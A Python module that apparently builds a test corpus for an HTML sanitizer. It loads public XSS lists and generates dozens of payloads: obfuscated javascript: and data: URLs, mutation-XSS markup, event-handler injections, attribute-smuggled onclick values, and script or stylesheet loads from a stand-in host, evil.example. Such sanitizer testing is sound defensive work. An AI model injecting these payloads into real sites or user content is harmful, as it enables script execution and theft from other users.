"""Hostile HTML: two public lists of the test data, and what is worth trying besides."""

from __future__ import annotations

import json
from pathlib import Path

RUN = "window.__ran=1"
BLANKS = [
    "\t",
    "\n",
    "\r",
    "\x00",
    "\x01",
    "\x08",
    "\x1f",
    "\u00a0",
    "\u2028",
    "\u3000",
    "\ufeff",
    "&#9;",
    "&Tab;",
    "&#x0A;",
]
SCHEMES = [
    *(f"java{blank}script:{RUN}" for blank in BLANKS),
    *(f"{blank}javascript:{RUN}" for blank in BLANKS),
    f"JaVaScRiPt:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    f"blob:{RUN}",
    f"view-source:javascript:{RUN}",
    f"//%0ajavascript:{RUN}",
    f'https://a.example/" onclick="{RUN}',
    f"feed:javascript:{RUN}",
]
CONTEXTS = [
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<embed embedtype="media" url="{}">',
    '<object data="{}"></object>',
]
MARKUP = [
    # What a second reading turns into something else.
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    '<listing>&lt;img onerror="{}" src=x&gt;</listing>',
    '<xmp><p title="</xmp><img src=x onerror={}>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror={}>"></textarea>',
    '<title><p title="</title><img src=x onerror={}>">',
    "<select><style></select><img src=x onerror={}></style></select>",
    "<template><img src=x onerror={}></template>",
    '<svg><desc><template><style><a title="</style><img src=x onerror={}>">',
    "<table><tr><td><svg><script>{}</script></svg>",
    "<svg><script>{}</script></svg>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>',
    "<svg><foreignObject><body onload={}></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={}/>#x"></use></svg>',
    "<svg><set attributeName=onmouseover to={}>",
    '<math><maction actiontype="statusline#x" xlink:href="javascript:{}">x</maction></math>',
    '<math href="javascript:{}">x</math>',
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<IMG SRC=x OnErRoR={}>",
    '<img src="x` `<script>{}</script>"` `>',
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<p tabindex=1 autofocus onfocus={} contenteditable>x</p>",
    "<marquee onstart={}>x</marquee>",
    "<script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>",
    "<script src=https://evil.example/x.js></script>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="animation-name:x" onanimationstart={}>x</p><style>@keyframes x{{}}</style>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>',
    '<div style="width:expression({})">x</div>',
    "<!--[if gte mso 9]><script>{}</script><![endif]-->",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<o:p><img src=x onerror={}></o:p>",
    "<p style='mso-list:l0 level1'><img src=x onerror={}></p>",
    '<pre><code class="language-js&quot; onclick=&quot;{}">x</code></pre>',
    '<td colspan="2 onclick={}">x</td>',
    '<a href="https://a.example" onclick={} style="position:fixed;inset:0">x</a>',
    "<isindex action=javascript:{}>",
    '<embed embedtype="image" id="1" alt="&quot; onerror={}" format="left">',
    '<a linktype="page" id="1&quot; onclick={}">x</a>',
    '<p data-align="center&quot; onclick={}">x</p>',
    '<span data-mention="u1&quot; onclick={}">@x</span>',
    '<ins data-by="u1" onclick={}>x</ins>',
    "<img src=x:x onerror={}//",
    "<<img src=x onerror={}>",
    "<a href='x' \x00onclick={}>x",
]


def public(data: Path) -> list[str]:
    """The public lists: bleach's 20 inputs and the HTML5 security cheat sheet's 149."""
    bleach = [path.read_text("utf-8").split("\n--\n")[0] for path in sorted((data / "xss" / "bleach").glob("*.test"))]
    return [*bleach, *(item["html"] for item in json.loads((data / "xss" / "h5sc.json").read_text("utf-8")))]


def own() -> list[str]:
    addresses = [context.format(address) for address in SCHEMES for context in CONTEXTS]
    return [*(markup.format(RUN) for markup in MARKUP), *addresses]
